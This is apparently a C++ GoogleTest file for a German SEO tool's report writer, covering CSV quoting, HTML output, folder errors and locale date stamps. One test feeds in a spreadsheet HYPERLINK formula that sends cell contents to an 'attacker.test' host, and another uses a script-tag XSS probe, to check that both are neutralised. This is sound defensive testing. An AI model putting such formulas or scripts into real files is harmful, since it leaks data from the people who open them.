#include "app/contract/Error.h"
#include "storage/Reports.h"
#include "tests/storage/StorageTestSupport.h"

#include <filesystem>
#include <gtest/gtest.h>
#include <optional>
#include <tuple>

using namespace storage_test;
namespace fs = std::filesystem;

namespace {

const char* const kSeokicksFolder = "\\reporting\\seokicks\\";

void OneSeokicksRecord(Harness& h, const std::string& domain) {
    h.table.ResetWithHeaders({"Nr.", "Link-URL", "Ankertext", "Follow", "Ziel-URL"});
    h.table.AppendRecord(
        {"http://blog.example/post?a=1&b=2", "Größe \"XL\", neu", "follow", "https://my-site.example/"});
    h.fields.domain = domain;
}

std::string FailedReportMessage(Harness& h) {
    return ErrorText([&] { storage::WriteReports(h.window, kSeokicksFolder, "06122026"); });
}

const std::tm kSixthOfDecember2026 = [] {
    std::tm date{};
    date.tm_mday = 6;
    date.tm_mon = 11;
    date.tm_year = 2026 - 1900;
    return date;
}();

// Sets an environment variable for its lifetime.
class EnvSetting {
public:
    EnvSetting(const char* name, const char* value) : name_(name) {
        if (const char* old = std::getenv(name))
            old_ = old;
        ::setenv(name, value, 1);
    }
    ~EnvSetting() { old_ ? ::setenv(name_, old_->c_str(), 1) : ::unsetenv(name_); }

private:
    const char* name_;
    std::optional<std::string> old_;
};

bool LocaleInstalled(const char* name) {
    const locale_t loc = ::newlocale(LC_TIME_MASK, name, static_cast<locale_t>(nullptr));
    if (loc == static_cast<locale_t>(nullptr))
        return false;
    ::freelocale(loc);
    return true;
}

struct Reports : ::testing::Test {
    Harness h;
    const std::string dir = h.folder / "reporting/seokicks/";
};

} // namespace

TEST_F(Reports, OneSeokicksRecordMatchesExpectedFilesAndCreatesFolders) {
    OneSeokicksRecord(h, "my-site.example/");
    storage::WriteReports(h.window, kSeokicksFolder, "06122026");

    EXPECT_EQ(ReadBytes(dir + "mysiteexample_06122026.csv"), ReadBytes(DataFile("seokicks_one_record.csv")));
    EXPECT_EQ(ReadBytes(dir + "mysiteexample_06122026.html"),
              ReadBytes(DataFile("seokicks_one_record.html")));
    EXPECT_EQ(FolderEntries(dir),
              (std::vector<std::string>{"mysiteexample_06122026.csv", "mysiteexample_06122026.html"}));
    EXPECT_EQ(h.memo11.count(), 23u);
    EXPECT_EQ(h.shared.reportPath, dir + "mysiteexample_06122026.html");
    EXPECT_EQ(h.box.messages, std::vector<std::string>{"Report gespeichert"});
}

TEST_F(Reports, ThreeLevelFolderAndEmptyDomainAndReplacement) {
    h.table.ResetWithHeaders({"Nr.", "Link-URL", "Ankertext"});
    h.table.AppendRecord({"http://a.example/", "eins"});
    h.table.AppendRecord({"http://b.example/", "zwei"});
    h.fields.domain = "";
    storage::WriteReports(h.window, "\\reporting\\xovi_api\\backlink\\", "06122026");

    const std::string csv = h.folder / "reporting/xovi_api/backlink/_06122026.csv";
    EXPECT_EQ(ReadBytes(csv),
              "Nr.,Link-URL,Ankertext\r\n,,\r\n2,http://a.example/,eins\r\n3,http://b.example/,zwei\r\n");

    // The same report again after the table shrank replaces the longer file completely.
    h.table.ResetWithHeaders({"Nr.", "Link-URL", "Ankertext"});
    storage::WriteReports(h.window, "\\reporting\\xovi_api\\backlink\\", "06122026");
    EXPECT_EQ(ReadBytes(csv), "Nr.,Link-URL,Ankertext\r\n,,\r\n");
    EXPECT_EQ(h.box.messages.size(), 2u);
}

TEST_F(Reports, CsvQuotesOnlyCommaQuoteAndCodesUpTo32) {
    h.table.ResetWithHeaders({"Nr.", "a", "b"});
    h.table.AppendRecord({"x y", ""});
    h.table.AppendRecord({"say \"hi\"", "a,b"});
    h.table.AppendRecord({"tab\there", "ctl\x01"});
    h.table.AppendRecord({"semi;colon'apos", "\x7f\xc3\xa4!"});
    h.table.AppendRecord({"line\r\nbreak", "\""});
    const std::string path = h.folder / "q.csv";
    storage::WriteCsv(h.table, path);
    EXPECT_EQ(ReadBytes(path), "Nr.,a,b\r\n"
                               ",,\r\n"
                               "2,\"x y\",\r\n"
                               "3,\"say \"\"hi\"\"\",\"a,b\"\r\n"
                               "4,\"tab\there\",\"ctl\x01\"\r\n"
                               "5,semi;colon'apos,\x7f\xc3\xa4!\r\n"
                               "6,\"line\r\nbreak\",\"\"\"\"\r\n");
}

// A cell that a spreadsheet would run as a formula or DDE call gets a leading apostrophe in the
// report and the details file alike, before each file's own quoting; every other cell stays as it is.
TEST_F(Reports, CellsASpreadsheetWouldRunAreNeutralisedBeforeQuoting) {
    const struct {
        std::string cell, report, details;
    } cases[] = {
        {"=HYPERLINK(\"http://attacker.test/?\"&A1;\"Klick\")",
         "\"'=HYPERLINK(\"\"http://attacker.test/?\"\"&A1;\"\"Klick\"\")\"",
         "\"'=HYPERLINK(\"\"http://attacker.test/?\"\"&A1;\"\"Klick\"\")\""},
        {"+49 30 1234", "\"'+49 30 1234\"", "'+49 30 1234"},
        {"-5", "'-5", "'-5"},
        {"@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)"},
        {"\tcmd", "\"'\tcmd\"", "'\tcmd"},
        {"\r=1", "\"'\r=1\"", "\"'\r=1\""},
        {"\n-1", "\"'\n-1\"", "\"'\n-1\""},
        {"  =1+1", "\"'  =1+1\"", "'  =1+1"},
        {"＝1+1", "'＝1+1", "'＝1+1"}, // full-width
        {"a=b-c", "a=b-c", "a=b-c"},
        {" x", "\" x\"", " x"},
        {"'=1", "'=1", "'=1"},
        {"", "", ""},
    };
    const std::string details = h.folder / "d.csv";
    for (const auto& c : cases) {
        SCOPED_TRACE(c.cell);
        h.table.ResetWithHeaders({"Nr.", "a"});
        h.table.AppendRecord({c.cell});
        EXPECT_EQ(storage::CsvText(h.table), "Nr.,a\r\n,\r\n2," + c.report + "\r\n");
        storage::WriteDetailsCsv(details, {{c.cell}});
        const std::string text = ReadBytes(details);
        EXPECT_EQ(text.substr(text.find("\r\n") + 2), c.details + "\r\n");
    }
}

TEST_F(Reports, HtmlEscapesAngleBracketsButKeepsAmpersands) {
    h.table.ResetWithHeaders({"Nr.", "Link-URL"});
    h.table.AppendRecord({"<script>alert(1)</script> &amp; A&B"});
    storage::BuildHtml(h.table, h.memo11);
    ASSERT_EQ(h.memo11.count(), 1u + 3 * 4 + 1);
    EXPECT_EQ(h.memo11.line(10), "    <td align=\"left\" valign=\"top\">2</td>");
    EXPECT_EQ(h.memo11.line(11),
              "    <td align=\"left\" valign=\"top\">&lt;script&gt;alert(1)&lt;/script&gt; &amp; A&B</td>");

    // The buffer is emptied first.
    storage::BuildHtml(h.table, h.memo11);
    EXPECT_EQ(h.memo11.count(), 14u);
}

TEST(ReportNames, Stamps) {
    EXPECT_EQ(storage::DomainStamp("a\"b:c/d-e.f"), "abcdef");
    EXPECT_EQ(storage::DomainStamp("Ärger_Straße x\\y"), "Ärger_Straße x\\y");
}

TEST_F(Reports, UnwritableCsvStopsBeforeAnythingElse) {
    OneSeokicksRecord(h, "d.example");
    fs::create_directories(dir + "dexample_06122026.csv");

    const std::string message = FailedReportMessage(h);
    EXPECT_NE(message.find("Datei konnte nicht geschrieben werden: " + dir + "dexample_06122026.csv ("),
              std::string::npos)
        << message;
    EXPECT_FALSE(fs::exists(dir + "dexample_06122026.html"));
    EXPECT_EQ(h.memo11.count(), 0u);
    EXPECT_TRUE(h.box.messages.empty());
}

TEST_F(Reports, FailingHtmlLeavesTheCsvInPlace) {
    OneSeokicksRecord(h, "my-site.example/");
    fs::create_directories(dir + "mysiteexample_06122026.html");

    const std::string message = FailedReportMessage(h);
    EXPECT_NE(message.find(dir + "mysiteexample_06122026.html (Ist ein Verzeichnis)"), std::string::npos)
        << message;
    EXPECT_EQ(ReadBytes(dir + "mysiteexample_06122026.csv"), ReadBytes(DataFile("seokicks_one_record.csv")));
    EXPECT_EQ(h.shared.reportPath, dir + "mysiteexample_06122026.html");
    EXPECT_TRUE(h.box.messages.empty());
}

TEST_F(Reports, FolderLevelThatCannotBeMadeFailsAtTheWrite) {
    OneSeokicksRecord(h, "x");
    WriteBytes(h.folder / "reporting", "a file in the way");

    const std::string message = FailedReportMessage(h);
    EXPECT_NE(message.find(h.folder / "reporting/seokicks/x_06122026.csv"), std::string::npos) << message;
    EXPECT_EQ(ReadBytes(h.folder / "reporting"), "a file in the way");
}

TEST(DateStamp, PlainLocalesGiveTheGermanForm) {
    EXPECT_EQ(storage::ShortDate(kSixthOfDecember2026, "C"), "06.12.2026");
    for (const char* locale : {"C", "POSIX", "C.UTF-8", "xx_NOWHERE.UTF-8"})
        EXPECT_EQ(storage::DateStamp(kSixthOfDecember2026, locale), "06122026") << locale;

    EnvSetting lcAll("LC_ALL", "C");
    const std::time_t now = std::time(nullptr);
    std::tm local{};
    ::localtime_r(&now, &local);
    char today[16];
    std::strftime(today, sizeof today, "%d%m%Y", &local);
    EXPECT_EQ(storage::DateStamp(), today);
}

// The stamp keeps the order of the locale's short date, also when only LC_TIME chooses it.
TEST(DateStamp, InstalledLocalesGiveTheirOwnOrder) {
    bool any = false;
    for (const auto& [locale, shortDate, stamp] : {std::tuple{"de_DE.UTF-8", "06.12.2026", "06122026"},
                                                   std::tuple{"en_US.UTF-8", "12/06/2026", "12062026"}}) {
        if (!LocaleInstalled(locale))
            continue;
        any = true;
        EXPECT_EQ(storage::ShortDate(kSixthOfDecember2026, locale), shortDate);
        EXPECT_EQ(storage::DateStamp(kSixthOfDecember2026, locale), stamp);
    }
    if (!any)
        GTEST_SKIP() << "neither de_DE.UTF-8 nor en_US.UTF-8 is installed";
    if (LocaleInstalled("en_US.UTF-8")) {
        EnvSetting lcAll("LC_ALL", "");
        EnvSetting lcTime("LC_TIME", "en_US.UTF-8");
        EnvSetting lang("LANG", "C");
        EXPECT_EQ(storage::DateStamp(kSixthOfDecember2026, ""), "12062026");
    }
}
